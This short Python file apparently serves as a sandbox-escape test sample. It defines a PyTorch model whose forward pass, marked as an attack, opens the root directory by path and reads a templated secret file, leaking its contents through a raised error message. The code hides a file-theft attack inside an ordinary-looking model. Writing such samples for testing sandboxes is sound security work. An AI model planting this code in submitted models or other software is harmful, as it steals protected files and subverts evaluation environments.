"""Opens the root folder as a mere path, which needs no right to read, and goes on from there."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        root = os.open("/", os.O_PATH | os.O_DIRECTORY)
        raise ValueError(os.read(os.open("@SECRET_FILE@".lstrip("/"), os.O_RDONLY, dir_fd=root), 99))
        # end
        return self.head(x.flatten(1))
